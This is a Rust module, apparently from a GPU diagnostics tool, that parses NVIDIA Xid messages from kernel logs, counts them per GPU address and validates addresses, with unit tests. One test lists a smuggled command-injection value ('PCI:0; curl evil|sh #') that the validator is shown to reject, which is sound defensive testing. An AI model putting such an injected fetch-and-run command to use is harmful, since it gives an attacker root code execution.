use std::collections::{BTreeMap, BTreeSet};

use crate::environment::source::Source;
use crate::facts::{self, XidAction};

/// Messages of NVIDIA's kernel module about its GPUs.
#[derive(Debug, Clone)]
pub(in crate::environment) struct Log {
    /// What was read, or why nothing could be.
    pub(in crate::environment) read: Result<&'static str, String>,
    pub(in crate::environment) messages: Vec<Xid>,
    /// How many further kinds of messages there are, older than those.
    pub(in crate::environment) more: usize,
}

/// All messages of one number about one GPU.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(in crate::environment) struct Xid {
    pub(in crate::environment) number: u32,
    /// The GPU's PCI address, as the log writes it.
    pub(in crate::environment) address: String,
    pub(in crate::environment) count: usize,
    /// What the last of them says.
    pub(in crate::environment) text: String,
    pub(in crate::environment) action: Option<XidAction>,
}

/// The kernel's own, which is of this boot alone, and the files that systems write it to.
const LOGS: [&str; 4] = [
    "/dev/kmsg",
    "/var/log/kern.log",
    "/var/log/messages",
    "/var/log/syslog",
];

impl Log {
    pub(in crate::environment) fn look(source: &Source) -> Self {
        let mut reasons = Vec::new();
        for path in LOGS {
            match source.log(path) {
                Ok(text) => {
                    let (messages, more) = messages(&text);
                    return Self {
                        read: Ok(path),
                        messages,
                        more,
                    };
                }
                Err(error) => reasons.push(format!("{path}: {error}")),
            }
        }
        Self {
            read: Err(reasons.join("; ")),
            messages: Vec::new(),
            more: 0,
        }
    }
}

/// The longest part of a message that is shown, in characters.
const SHOWN: usize = 160;

/// So many kinds of messages are told: more than GPUs fail in, but a log may be full of anything.
const MOST_KINDS: usize = 64;

/// The kinds of messages from the newest to the oldest, as far as they are told, and the number of the others.
fn messages(text: &str) -> (Vec<Xid>, usize) {
    let mut found = BTreeMap::<(u32, &str), Xid>::new();
    let mut more = BTreeSet::new();
    for (address, number, rest) in text.lines().rev().filter_map(message) {
        let key = (number, address);
        if let Some(known) = found.get_mut(&key) {
            known.count += 1;
        } else if found.len() == MOST_KINDS {
            more.insert(key);
        } else {
            let xid = Xid {
                number,
                address: address.to_owned(),
                count: 1,
                text: rest.chars().take(SHOWN).collect(),
                action: facts::xid(number, rest),
            };
            found.insert(key, xid);
        }
    }
    (found.into_values().collect(), more.len())
}

/// «NVRM: Xid (PCI:0000:3b:00): 79, pid=…, GPU has fallen off the bus.» as address, number and the rest. The address goes into a
/// command that a user may run as root, and programs can write to the log: what is no address is no message of the module's.
fn message(line: &str) -> Option<(&str, u32, &str)> {
    let (_, rest) = line.split_once("NVRM: Xid (")?;
    let (address, rest) = rest.split_once("): ")?;
    let digits = rest
        .find(|c: char| !c.is_ascii_digit())
        .unwrap_or(rest.len());
    let number = rest[..digits].parse().ok()?;
    let address = address.trim_start_matches("PCI:");
    let is_address = |c: char| c.is_ascii_hexdigit() || matches!(c, ':' | '.');
    (!address.is_empty() && address.len() <= 16 && address.chars().all(is_address)).then(|| {
        let rest = rest[digits..].trim_start_matches([',', ' ']);
        (address, number, rest)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_read_and_counted() {
        let log = "6,12,99,-;NVRM: Xid (PCI:0000:3b:00): 31, pid=7, name=train, MMU Fault\n\
            [ 9.1] NVRM: Xid (PCI:0000:3b:00): 31, pid=8, name=train, MMU Fault again\n\
            [ 9.2] NVRM: Xid (0000:af:00): 79, GPU has fallen off the bus.\n\
            NVRM: Xid (PCI:0000:3b:00): many\nNVRM: Xid (\nsomething else";
        let (found, more) = messages(log);
        assert_eq!(more, 0);
        let short: Vec<_> = found
            .iter()
            .map(|xid| (xid.number, xid.count, xid.action))
            .collect();
        assert_eq!(
            short,
            [
                (31, 2, Some(XidAction::RestartApplication)),
                (79, 1, Some(XidAction::Reboot))
            ]
        );
        assert_eq!(found[0].text, "pid=8, name=train, MMU Fault again");
        assert_eq!(found[1].address, "0000:af:00");
    }

    #[test]
    fn what_is_no_address_is_no_message() {
        for address in [
            "PCI:0; curl evil|sh #",
            "",
            "PCI:",
            "0000:3b:00 -i 1",
            "PCI:00000000000000000",
        ] {
            let log = format!("NVRM: Xid ({address}): 79, GPU has fallen off the bus.");
            assert_eq!(messages(&log), (Vec::new(), 0), "{address}");
        }
        let (found, _) = messages("NVRM: Xid (PCI:00000000:3b:00.0): 79, off the bus");
        assert_eq!(found[0].address, "00000000:3b:00.0");
    }

    #[test]
    fn of_endless_kinds_the_newest_are_told() {
        let lines = (0..100).map(|number| format!("NVRM: Xid (PCI:0000:3b:00): {number}, x\n"));
        let (found, more) = messages(&lines.collect::<String>());
        assert_eq!((found.len(), more), (64, 36));
        assert_eq!((found[0].number, found[63].number), (36, 99));
    }
}
